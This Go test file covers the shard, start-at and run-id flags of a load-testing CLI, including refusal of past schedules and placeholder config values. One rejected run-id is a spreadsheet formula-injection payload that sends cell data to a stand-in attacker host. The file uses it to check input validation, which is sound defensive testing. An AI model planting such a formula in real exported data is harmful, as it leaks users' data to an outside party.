package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

func TestParseStartAt(t *testing.T) {
	now := time.Date(2026, 12, 1, 14, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		in   string
		want time.Time
		err  bool
	}{
		{"+30s", now.Add(30 * time.Second), false},
		{"+0s", now, false},
		{"+4s", now.Add(4 * time.Second), false},
		{"2026-12-01T15:00:00Z", time.Date(2026, 12, 1, 15, 0, 0, 0, time.UTC), false},
		{"2026-12-01T16:00:00.250+01:00", time.Date(2026, 12, 1, 15, 0, 0, 250e6, time.UTC), false},
		{"+-5s", time.Time{}, true},
		{"30s", time.Time{}, true},
		{"tomorrow", time.Time{}, true},
		{"0001-01-01T00:00:00Z", time.Time{}, true}, // the zero time, which meant "no --start-at"
		{"1969-12-31T23:59:59Z", time.Time{}, true},
		{"1970-01-01T00:00:00Z", time.Unix(0, 0), false},
	} {
		got, err := ParseStartAt(tc.in, now)
		if (err != nil) != tc.err || !got.Equal(tc.want) {
			t.Errorf("ParseStartAt(%q) = %v, %v; want %v (error %t)", tc.in, got, err, tc.want, tc.err)
		}
	}
}

// TestRelativeStartSharedBySiblings: shards started together with the
// same relative --start-at (tens of milliseconds apart, as a shell loop
// starts them) get the same time zero and so the same derived run id; it
// used to be their own start plus the offset, to the nanosecond.
func TestRelativeStartSharedBySiblings(t *testing.T) {
	base := time.Date(2030, 1, 1, 12, 0, 0, 100e6, time.UTC)
	for i, lag := range []time.Duration{0, 30 * time.Millisecond, 420 * time.Millisecond} {
		at, err := ParseStartAt("+4s", base.Add(lag))
		if err != nil {
			t.Fatal(err)
		}
		// The run id is derived from the start and the flags
		// (record: TestShardRunID): one start, one run.
		if want := time.Date(2030, 1, 1, 12, 0, 5, 0, time.UTC); !at.Equal(want) {
			t.Fatalf("shard %d started %v late: start %v, want %v (the next whole second)", i, lag, at, want)
		}
	}
}

// TestRunShardFlags: --shard, --start-at and --run-id fill the Sharding;
// a bad one is a usage error (exit status 2) naming its flag, and N > 1
// without --start-at is one too.
func TestRunShardFlags(t *testing.T) {
	var got *RunOptions
	cmd := NewCmdRun(&IO{Out: &bytes.Buffer{}, Err: &bytes.Buffer{}}, func(o *RunOptions) error { got = o; return nil })
	cmd.SetArgs([]string{"--shard", "2/3", "--start-at", "2126-12-01T15:00:00Z", "--run-id", "v2-soak"})
	if err := cmd.ExecuteContext(context.Background()); err != nil {
		t.Fatal(err)
	}
	if s := got.Config.Shard; s.Index != 2 || s.Count != 3 || s.RunID != "v2-soak" || !s.StartAt.Equal(time.Date(2126, 12, 1, 15, 0, 0, 0, time.UTC)) {
		t.Fatalf("sharding = %+v", s)
	}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--shard", "0/3"}, "--start-at is required when the run has 3 shards"},
		{[]string{"--shard", "3/3", "--start-at", "+10s"}, `--shard "3/3": want I/N in decimal digits with 0 ≤ I < N`},
		{[]string{"--shard", "-1/3", "--start-at", "+10s"}, `--shard "-1/3"`},
		{[]string{"--shard", "1", "--start-at", "+10s"}, `--shard "1"`},
		{[]string{"--shard", "+1/3", "--start-at", "+10s"}, `--shard "+1/3": want I/N in decimal digits`},
		{[]string{"--shard", "-0/3", "--start-at", "+10s"}, `--shard "-0/3"`},
		{[]string{"--shard", "1/+3", "--start-at", "+10s"}, `--shard "1/+3"`},
		{[]string{"--shard", " 1/3", "--start-at", "+10s"}, `--shard " 1/3"`},
		{[]string{"--shard", "0/2000000000", "--start-at", "+10s"}, `--shard "0/2000000000": want I/N in decimal digits with 0 ≤ I < N ≤ 10000`},
		{[]string{"--shard", "0/10001", "--start-at", "+10s"}, `--shard "0/10001"`},
		{[]string{"--shard", "0/0", "--start-at", "+10s"}, `--shard "0/0"`},
		{[]string{"--shard", "0/2", "--start-at", "0001-01-01T00:00:00Z"}, `--start-at "0001-01-01T00:00:00Z" is out of range`},
		{[]string{"--shard", "0/2", "--start-at", "noon"}, `--start-at "noon"`},
		{[]string{"--run-id", "a\tb"}, "--run-id must be 1 to 128 letters, digits, '.', '_' or '-', starting with a letter or a digit"},
		// -o in a temporary directory: were the id accepted, the run would start.
		{[]string{"--run-id", `=HYPERLINK("http://evil.example/?"&A3,"open")`, "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
		{[]string{"--run-id", "-x", "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
	} {
		var out, errOut bytes.Buffer
		code := Main(context.Background(), append([]string{"run"}, tc.args...), nil, &out, &errOut)
		if code != exitUsage || !strings.Contains(errOut.String(), tc.want) || strings.Count(errOut.String(), "\n") != 1 {
			t.Errorf("llmrec run %v: exit %d, stderr %q; want exit 2 and one line with %q", tc.args, code, errOut.String(), tc.want)
		}
	}
}

func TestParseShard(t *testing.T) {
	for _, tc := range []struct {
		in   string
		i, n int
		ok   bool
	}{
		{"0/1", 0, 1, true}, {"2/3", 2, 3, true}, {"9999/10000", 9999, 10000, true}, {"007/010", 7, 10, true},
		{"+1/3", 0, 0, false}, {"-0/3", 0, 0, false}, {"1/3 ", 0, 0, false}, {"0x1/3", 0, 0, false},
		{"1_0/30", 0, 0, false}, {"0/10001", 0, 0, false}, {"3/3", 0, 0, false}, {"/3", 0, 0, false},
		{"0/99999999999999999999", 0, 0, false}, {"١/٣", 0, 0, false},
	} {
		i, n, err := ParseShard(tc.in)
		if (err == nil) != tc.ok || i != tc.i || n != tc.n {
			t.Errorf("ParseShard(%q) = %d, %d, %v; want %d, %d, accepted %t", tc.in, i, n, err, tc.i, tc.n, tc.ok)
		}
	}
}

// TestRunRefusesAScheduleAlreadyOver: a --start-at whose whole schedule has
// ended is a usage error (exit 2, one line saying how far in the past and
// when the schedule ended) before any request or file; a schedule still in
// progress is accepted (the shard joins it late).
func TestRunRefusesAScheduleAlreadyOver(t *testing.T) {
	out := filepath.Join(t.TempDir(), "shard-0.parquet")
	past := time.Now().Add(-2 * time.Hour).UTC().Format(time.RFC3339)
	var stdout, stderr bytes.Buffer
	code := Main(context.Background(), []string{"run", "--shard", "0/3", "--start-at", past, "--step-users", "30", "--step-time", "60s",
		"--max-users", "300", "-o", out}, nil, &stdout, &stderr)
	line := stderr.String()
	if code != exitUsage || strings.Count(line, "\n") != 1 || !strings.Contains(line, "--start-at "+past+" is 2h0m") ||
		!strings.Contains(line, "in the past: the whole schedule (10m0s) ended at") {
		t.Errorf("exit %d, stderr %q; want exit 2 and one line saying the start-at is 2h in the past", code, line)
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("the run file was created: %v", err)
	}
	var got *RunOptions
	cmd := NewCmdRun(&IO{Out: &bytes.Buffer{}, Err: &bytes.Buffer{}}, func(o *RunOptions) error { got = o; return nil })
	cmd.SetArgs([]string{"--shard", "1/3", "--start-at", time.Now().Add(-5 * time.Minute).UTC().Format(time.RFC3339),
		"--step-users", "30", "--step-time", "60s", "--max-users", "300"})
	if err := cmd.ExecuteContext(context.Background()); err != nil || got == nil {
		t.Fatalf("a schedule 5 minutes into its 10: %v", err)
	}
}

// TestManifestPlaceholderRefused: the start-at the Kubernetes ConfigMap
// ships (a placeholder to set) is refused by llmrec run as the Job passes
// it, exit 2 and one line naming --start-at, before any request: a Job
// applied without setting it fails at once.
func TestManifestPlaceholderRefused(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("..", "..", "deploy", "kubernetes", "configmap.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`(?m)^\s+start-at:\s*"?([^"\n]*)"?\s*$`).FindSubmatch(raw)
	if m == nil {
		t.Fatal("configmap.yaml holds no start-at")
	}
	var stdout, stderr bytes.Buffer
	code := Main(context.Background(), []string{"run", "--shard=0/3", "--start-at=" + string(m[1]), "--run-id=r",
		"-o", filepath.Join(t.TempDir(), "shard-0.parquet")}, nil, &stdout, &stderr)
	if code != exitUsage || strings.Count(stderr.String(), "\n") != 1 || !strings.Contains(stderr.String(), `--start-at "`+string(m[1])+`"`) {
		t.Errorf("start-at %q: exit %d, stderr %q; want exit 2 and one line naming --start-at", m[1], code, stderr.String())
	}
}
